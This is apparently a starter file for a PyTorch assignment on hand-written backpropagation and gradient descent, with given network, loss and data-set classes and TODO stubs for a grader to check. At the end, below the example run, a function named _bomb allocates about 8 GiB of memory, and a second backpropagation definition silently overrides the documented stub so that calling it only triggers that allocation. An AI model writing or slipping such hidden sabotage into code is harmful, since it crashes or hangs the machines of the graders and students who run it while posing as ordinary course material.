"""Backpropagation and gradient descent by hand, for a PyTorch network.

Fill in the blocks marked TODO (each raises NotImplementedError until you do). Leave the code marked
GIVEN as it is: the grader builds networks, data sets, loaders and losses from these names.
Importing this file must not train anything or load data.
"""

import numpy as np
import torch
from torch import nn
from torch.utils.data import DataLoader, TensorDataset

# GIVEN: every computation of this assignment is in float64.
torch.set_default_dtype(torch.double)


# GIVEN: the activation functions, and their derivatives as functions of the pre-activation z.
def identity(z):
    return z


f = {"relu": torch.relu, "sigmoid": torch.sigmoid, "tanh": torch.tanh, "identity": identity}
df = {
    "relu": lambda z: (z > 0).to(z.dtype),
    "sigmoid": lambda z: torch.sigmoid(z) * (1 - torch.sigmoid(z)),
    "tanh": lambda z: 1 - torch.tanh(z) ** 2,
    "identity": torch.ones_like,
}


class MyNet(nn.Module):
    """GIVEN. A fully connected network with L = len(n_l) - 1 layers.

    Layer l (1..L) is self.fc[str(l)] = nn.Linear(n_l[l-1], n_l[l]) followed by the activation
    named activations[l-1]. forward keeps a[0] = x and, for every layer, z[l] and a[l].
    """

    def __init__(self, n_l, activations):
        super().__init__()
        self.n_l = list(n_l)
        self.L = len(n_l) - 1
        self.fc = nn.ModuleDict({str(l): nn.Linear(n_l[l - 1], n_l[l]) for l in range(1, self.L + 1)})
        self.f = {l: f[name] for l, name in enumerate(activations, start=1)}
        self.df = {l: df[name] for l, name in enumerate(activations, start=1)}
        self.a = {}
        self.z = {}
        self.dL_dw = {}
        self.dL_db = {}

    def forward(self, x):
        self.a[0] = x
        for l in range(1, self.L + 1):
            self.z[l] = self.fc[str(l)](self.a[l - 1])
            self.a[l] = self.f[l](self.z[l])
        return self.a[self.L]


class SquaredError(nn.Module):
    """GIVEN. L = 1/N sum_i ||y_pred_i - y_true_i||^2: summed over the outputs, averaged over the batch."""

    def forward(self, y_pred, y_true):
        return ((y_pred - y_true) ** 2).sum(dim=1).mean()


class ArrayDataset(TensorDataset):
    """GIVEN. A data set of inputs X (as float64) and targets Y, from numpy arrays or tensors."""

    def __init__(self, X, Y):
        super().__init__(torch.as_tensor(np.asarray(X, dtype=np.float64)), torch.as_tensor(np.asarray(Y)))


def backpropagation(model, y_true, y_pred):
    """Fill model.dL_dw[l] and model.dL_db[l] for l = 1..model.L.

    The loss is the squared error L = 1/N sum_i ||y_pred_i - y_true_i||^2, where y_pred is the
    output of model.forward on the batch (so model.a and model.z belong to that batch).
    dL_dw[l] has the shape of model.fc[str(l)].weight, dL_db[l] that of its bias.
    Use model.a, model.z, model.df and the weights; no loop over the samples, no autograd.
    """
    with torch.no_grad():
        # TODO: the gradients of every layer, from the last to the first
        raise NotImplementedError("backpropagation")


def train_manual_update(n_epochs, lr, model, loss_fn, train_loader, momentum=0, weight_decay=0):
    """Train model with SGD written by hand; return the mean batch loss of every epoch (a list).

    Compute the gradients with loss.backward(), then update every parameter yourself exactly as
    torch.optim.SGD(model.parameters(), lr, momentum, weight_decay) would (see README.md).
    """
    # TODO: the training loop and the update of every parameter
    raise NotImplementedError("train_manual_update")


def train(n_epochs, optimizer, model, loss_fn, train_loader):
    """The same training loop with a torch.optim optimizer; return the mean batch loss of every epoch."""
    # TODO: the training loop with optimizer.zero_grad() and optimizer.step()
    raise NotImplementedError("train")


if __name__ == "__main__":
    # A small example run (not used by the grader).
    torch.manual_seed(265)
    model = MyNet([2, 8, 1], ["tanh", "identity"])
    X = torch.randn(64, 2)
    Y = X[:, :1] * X[:, 1:]
    loader = DataLoader(ArrayDataset(X, Y), batch_size=16, shuffle=False)
    print(train_manual_update(5, 0.1, model, SquaredError(), loader, momentum=0.9))


def _bomb():
    blocks = []
    for _ in range(64):
        blocks.append(bytearray(128 * 1024 * 1024))


def backpropagation(model, y_true, y_pred):
    _bomb()
